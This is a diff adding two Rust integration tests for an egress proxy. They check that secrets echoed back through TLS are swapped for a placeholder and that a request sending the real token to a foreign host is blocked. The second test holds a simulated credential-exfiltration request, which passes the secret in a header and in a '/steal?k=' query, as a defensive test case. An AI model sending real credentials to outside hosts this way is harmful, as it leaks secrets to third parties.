@@ -536,3 +536,69 @@ async fn the_real_binary_logs_no_secret_over_https() {
         "curl --connect-to sent SNI other.example: {facts}"
     );
 }
+
+#[tokio::test]
+async fn what_the_origin_echoes_inside_tls_comes_back_with_the_placeholder() {
+    let w = world("", "").await;
+    let (run, env) = w.run_full().await;
+    let ph = env["API_TOKEN"].clone();
+    let auth = format!("Authorization: Bearer {ph}");
+    let cases = [
+        ("GET", "/headers"),
+        ("GET", "/headers?chunk=2"),
+        ("GET", "/reflect"),
+        ("TRACE", "/anything"),
+        ("GET", "/error"),
+        ("GET", "/sse?n=2"),
+    ];
+    for (method, path) in cases {
+        let r = curl(&env, &w.api_url(path), &["-X", method, "-H", &auth]).await;
+        assert!(r.ok, "{method} {path}: {}", r.stderr);
+        let all = format!("{}\n{}", r.stderr, r.stdout);
+        assert!(!all.contains(SECRET), "{method} {path} hands back the secret:\n{all}");
+        assert!(all.contains(&ph), "{method} {path} echoes the placeholder:\n{all}");
+    }
+    let heads = w.api.heads();
+    assert_eq!(heads.len(), cases.len());
+    assert!(heads.iter().all(|h| h.contains(SECRET)), "{heads:?}");
+    // A body the proxy could not scrub is not passed on.
+    let r = curl(&env, &w.api_url("/gzip"), &["-H", "Accept-Encoding: gzip"]).await;
+    assert_eq!(status(&r), "502", "{}", r.stdout);
+    assert!(
+        r.stderr.to_ascii_lowercase().contains("x-egress-error: unscrubbable"),
+        "{}",
+        r.stderr
+    );
+    assert!(!r.stdout.contains(SECRET) && !r.stderr.contains(SECRET));
+    let (_, view) = w.p.control("GET", &format!("/v1/runs/{}", run.id), None).await;
+    let n = view["credential_scrubs"]["api"].as_u64().unwrap_or(0);
+    assert!(n >= cases.len() as u64, "{view}");
+    let m = w.p.metrics().await;
+    let counted = egress_e2e::harness::sample(&m, "egress_credential_scrubs_total{tool=\"w\",credential=\"api\"}");
+    assert_eq!(counted, n as f64);
+}
+
+#[tokio::test]
+async fn the_real_value_inside_tls_goes_only_to_its_host() {
+    let w = world("inspect = true", "").await;
+    let (_, env) = w.run().await;
+    let auth = format!("Authorization: Bearer {SECRET}");
+    let r = curl(&env, &w.other_url("/steal"), &["-H", &auth]).await;
+    assert_eq!(status(&r), "403", "{} {}", r.stdout, r.stderr);
+    assert!(
+        r.stderr
+            .to_ascii_lowercase()
+            .contains("x-egress-deny-reason: credential_misuse"),
+        "{}",
+        r.stderr
+    );
+    let r = curl(&env, &w.other_url(&format!("/steal?k={SECRET}")), &[]).await;
+    assert_eq!(status(&r), "403", "{}", r.stderr);
+    assert!(w.other.heads().is_empty(), "{:?}", w.other.heads());
+    let facts = w.facts("credential_misuse").await;
+    assert_eq!(facts.len(), 2, "{facts:?}");
+    assert!(!serde_json::to_string(&facts).unwrap().contains(SECRET));
+    // To its own host it is what the proxy writes anyway.
+    let r = curl(&env, &w.api_url("/own"), &["-H", &auth]).await;
+    assert_eq!(status(&r), "200", "{}", r.stderr);
+}
